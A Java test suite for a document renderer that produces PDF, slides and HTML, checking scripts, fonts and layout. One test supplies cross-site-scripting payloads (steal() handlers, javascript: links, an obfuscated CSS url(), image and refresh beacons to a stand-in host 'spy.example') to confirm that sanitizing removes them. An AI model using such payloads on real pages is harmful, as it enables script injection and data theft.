package dev.parley.reader.render;

import static dev.parley.reader.render.RenderedFormat.HTML;
import static dev.parley.reader.render.RenderedFormat.PDF;
import static dev.parley.reader.render.RenderedFormat.SLIDES;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.text.Normalizer.Form;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.font.PDFont;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.pdfbox.text.TextPosition;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xslf.usermodel.XSLFShape;
import org.apache.poi.xslf.usermodel.XSLFTextShape;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Rendered files, read back by independent programs where available. */
class RenderedFormatTest {
    private static final String REPORT = """
            # Stock report

            Grüße, Καλημέρα, Здравствуйте — *all* **three** scripts.

            | Item | Count |
            |---|---:|
            | Bolts | 12 |
            | Nuts | 7 |

            ## Next steps

            - order bolts
              - before Friday
            - count again

            ```
            total = 19
            ```
            """;

    private static byte[] render(RenderedFormat format, String text) throws UnrenderableText {
        return format.render("report", text);
    }

    @Test
    void aPdfHasTheTextInEmbeddedFontsOfThreeScripts() throws Exception {
        try (PDDocument document = Loader.loadPDF(render(PDF, REPORT))) {
            assertThat(new PDFTextStripper().getText(document))
                    .contains(
                            "Stock report", "Grüße, Καλημέρα, Здравствуйте", "Bolts 12", "before Friday", "total = 19");
            for (var name : document.getPage(0).getResources().getFontNames()) {
                PDFont font = document.getPage(0).getResources().getFont(name);
                assertThat(font.isEmbedded()).as(font.getName()).isTrue();
            }
        }
    }

    @Test
    void popplerReadsThePdfWhereItIsInstalled() throws Exception {
        Path pdf = Files.createTempFile("parley", ".pdf");
        try {
            Files.write(pdf, render(PDF, REPORT));
            Process poppler = new ProcessBuilder(
                            "sh", "-c", "command -v pdftotext || exit 3; pdftotext -layout \"$0\" -", pdf.toString())
                    .start();
            String text = new String(poppler.getInputStream().readAllBytes(), UTF_8);
            org.junit.jupiter.api.Assumptions.assumeTrue(poppler.waitFor() != 3, "no pdftotext");
            assertThat(text).contains("Stock report", "Здравствуйте", "Nuts");
        } finally {
            Files.delete(pdf);
        }
    }

    @Test
    void slidesStartAtHeadingsAndOverflowToTheNext() throws Exception {
        String text = REPORT + "\n## Long\n" + "- a point\n".repeat(25);
        try (var show = new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, text)))) {
            List<String> titles = show.getSlides().stream()
                    .map(slide -> String.valueOf(slide.getTitle()))
                    .toList();
            assertThat(titles).containsExactly("Stock report", "Next steps", "Long", "Long", "Long");
            List<String> second = new ArrayList<>();
            for (XSLFShape shape : show.getSlides().get(1).getShapes()) {
                if (shape instanceof XSLFTextShape words) {
                    second.addAll(words.getText().lines().toList());
                }
            }
            assertThat(second)
                    .containsExactly("Next steps", "order bolts", "before Friday", "count again", "total = 19");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "---\n---", "plain words", "# only a title"})
    void everyTextMakesAPresentationAndAPdf(String text) throws Exception {
        try (var show = new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, text)))) {
            assertThat(show.getSlides()).isNotEmpty();
        }
        try (PDDocument document = Loader.loadPDF(render(PDF, text))) {
            assertThat(document.getNumberOfPages()).isEqualTo(1);
        }
    }

    @Test
    void htmlKeepsTextAndLosesActiveAndExternalContent() throws Exception {
        String page = new String(render(HTML, """
                <h1 onclick="steal()">Hi</h1><script>steal()</script><img src="https://spy.example/?secret=1">
                <a href="javascript:steal()">a</a><a href="https://ok.example/">b</a>
                <style>p { background: url(https://spy.example/) }</style><p style="background:u\\72l(//spy.example)">x</p>
                <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><svg onload="steal()"></svg>
                <meta http-equiv="refresh" content="0; url=https://spy.example"><iframe srcdoc="x"></iframe>"""), UTF_8);
        assertThat(page)
                .startsWith("<!doctype html>")
                .contains("Hi", "https://ok.example/", "data:image/png", "charset")
                .doesNotContain("steal", "spy.example", "iframe", "refresh");
    }

    @Test
    void aPdfFetchesNothingAndAStyleCannotAskForEndlessPaper() throws Exception {
        try (var receiver = new java.net.ServerSocket(0, 5, java.net.InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + receiver.getLocalPort() + "/x";
            byte[] pdf = render(
                    PDF,
                    "<html><body style='height: 99999999px'><img src='" + url + "'>"
                            + "<style>@import url('" + url
                            + "'); p { height: 9999999px; page-break-after: always }"
                            + "</style><link rel=stylesheet href='" + url + "'><p>words</p></body></html>");
            receiver.setSoTimeout(200);
            assertThatThrownBy(receiver::accept).isInstanceOf(java.net.SocketTimeoutException.class);
            try (PDDocument document = Loader.loadPDF(pdf)) {
                assertThat(document.getNumberOfPages()).isEqualTo(1);
            }
        }
    }

    @Test
    void rawHtmlInMarkdownIsEscaped() throws Exception {
        try (PDDocument document = Loader.loadPDF(render(PDF, "hello <script>steal()</script>"))) {
            assertThat(new PDFTextStripper().getText(document)).contains("<script>");
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "第二季度收入增长了百分之十二。",
                "請輸入發票號碼，「謝謝」。",
                "東京都の㈱サンプル、𠮷野家〈本店〉ﾊﾝｶｸ",
                "안녕하세요, 청구서를 확인해 주세요.",
                "สวัสดีครับ ใบแจ้งหนี้",
                "გამარჯობა",
                "Բարեւ ձեզ",
                "ሰላም ለዓለም",
                "Hóa đơn đã được thanh toán: 1.000 ₫, 5 ₽, 7 ₺, 3 ₿",
                "✅ Done ❌ no ⚠ care 🎉 👍 💬 → ⇒ ✓ ✗ ★ ☐",
                "x² ≤ ∑ √2 ≈ ∞ ∈ ℝ, H₂O, ⅔, ①②, ┌─┐ █ 𝛼",
            })
    void aPdfHasTheTextOfManyScriptsInEmbeddedFonts(String text) throws Exception {
        try (PDDocument document = Loader.loadPDF(render(PDF, "# " + text + "\n\n" + text))) {
            String read = new PDFTextStripper().getText(document);
            assertThat(read.replaceAll("\\s+", ""))
                    .contains(Normalizer.normalize(text, Form.NFC).replaceAll("\\s+", ""));
            for (var name : document.getPage(0).getResources().getFontNames()) {
                assertThat(document.getPage(0).getResources().getFont(name).isEmbedded())
                        .isTrue();
            }
        }
    }

    /** What an editor composes from several code points, and what is invisible. */
    @ParameterizedTest
    @CsvSource({
        "e\u0301\u0323, \u1EB9\u0301",
        "\u1112\u1161\u11AB, \uD55C",
        "a\uFE0F\u200Db\u0007, a\u200Db",
        "❤\uFE0F, ❤"
    })
    void composedAndInvisibleCharactersAreNotMissing(String text, String shown) throws Exception {
        assertThat(textOf(render(PDF, text))).contains(shown);
    }

    @ParameterizedTest
    @CsvSource({
        "नमस्ते, न (U+0928)",
        "Invoice für ঢাকা, ঢ (U+09A2)",
        "தமிழ், த (U+0BA4)",
        "ខ្មែរ, ខ (U+1781)",
        "بە, ە (U+06D5)",
        "ສະບາຍດີ, ສ (U+0EAA)",
        "שָׁלוֹם, ָ (U+05B8)",
        "\uE000, \uE000 (U+E000)",
    })
    void aPdfNamesTheFirstCharacterThatItCannotShow(String text, String character) {
        assertThatThrownBy(() -> render(PDF, text))
                .isInstanceOf(UnrenderableText.class)
                .hasMessageStartingWith("A PDF cannot show the character " + character + ".");
    }

    @ParameterizedTest
    @CsvSource({
        "שלום (עולם), (םלוע) םולש",
        "חשבונית 123 שולמה, המלוש 123 תינובשח",
        "Total: שלום end, Total: םולש end",
        "- שלום, םולש •",
        "سلام, \uFEE1\uFEFC\uFEB3",
        "بيت، لا, \uFEFB \u060C\uFE96\uFEF4\uFE91",
        "می\u200Cخواهم, \uFEE2\uFEEB\uFE8D\uFEEE\uFEA7\uFBFD\uFEE3",
    })
    void rightToLeftTextIsShapedAndInVisualOrder(String text, String visual) throws Exception {
        assertThat(glyphs(render(PDF, text))).isEqualTo(visual);
    }

    @Test
    void aLineWhoseDirectionsTheLayoutCannotOrderIsRefused() {
        assertThatThrownBy(() -> render(PDF, "Customer: דוד כהן 12 א paid"))
                .isInstanceOf(UnrenderableText.class)
                .hasMessageContaining("“12”");
    }

    @Test
    void wordsBesideALongUrlStayWhole() throws Exception {
        String url = "https://example.com/" + "abcdefgh0123".repeat(15) + "?q=1";
        String words = "Consideration of the administrative responsibilities notwithstanding ";
        String text = textOf(render(PDF, (words.repeat(3) + url + " " + words.repeat(3)).strip()));
        assertThat(Arrays.stream(text.split("\\s+")).filter(word -> !url.contains(word)))
                .allMatch(word -> (words + "1 / 1").contains(word))
                .filteredOn(word -> List.of(words.split(" ")).contains(word))
                .hasSize(6 * 6);
        assertThat(text.replaceAll("\\s+", "")).contains(url);
    }

    @ParameterizedTest
    @ValueSource(strings = {"第二季度收入", "นมัสเต", "नमस्ते", "👩‍👩‍👧 🎉", "שלום עולם", "مرحبا"})
    void slidesAndPagesKeepTheTextOfEveryScript(String text) throws Exception {
        try (var show =
                new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, "# " + text + "\n\n- " + text + "\u0007")))) {
            List<String> lines = new ArrayList<>();
            for (XSLFShape shape : show.getSlides().getFirst().getShapes()) {
                lines.add(((XSLFTextShape) shape).getText());
            }
            assertThat(lines).containsExactly(text, text);
        }
        assertThat(new String(render(HTML, "<p>" + text), UTF_8)).contains(text);
    }

    @Test
    void aLongLineOfASlideContinuesOnTheNext() throws Exception {
        String text = "💬".repeat(500) + " " + "words and ".repeat(100).strip();
        try (var show = new XMLSlideShow(new ByteArrayInputStream(render(SLIDES, "# T\n\n" + text)))) {
            String all = show.getSlides().stream()
                    .flatMap(slide -> slide.getShapes().stream())
                    .map(shape -> ((XSLFTextShape) shape).getText())
                    .collect(Collectors.joining("\n"));
            assertThat(all.replaceAll("\\s", "")).isEqualTo("T" + text.replace(" ", ""));
        }
        assertThatThrownBy(() -> render(SLIDES, "# T\n\n".repeat(201)))
                .isInstanceOf(UnrenderableText.class)
                .hasMessageContaining("200");
    }

    private static String textOf(byte[] pdf) throws Exception {
        try (PDDocument document = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(document);
        }
    }

    /** The characters of the first line from left to right, as the fonts have them. */
    private static String glyphs(byte[] pdf) throws Exception {
        var line = new TreeMap<Float, String>();
        try (PDDocument document = Loader.loadPDF(pdf)) {
            new PDFTextStripper() {
                @Override
                protected void processTextPosition(TextPosition glyph) {
                    if (glyph.getYDirAdj() < 200) {
                        line.put(glyph.getXDirAdj(), glyph.getUnicode());
                    }
                }
            }.getText(document);
        }
        return String.join("", line.values()).strip();
    }

    @Test
    void absurdNestingIsRefused() {
        for (String deep : List.of("<html><body>" + "<div>".repeat(60_000), "> ".repeat(3_000) + "x")) {
            assertThatThrownBy(() -> render(PDF, deep)).isInstanceOf(UnrenderableText.class);
        }
    }
}
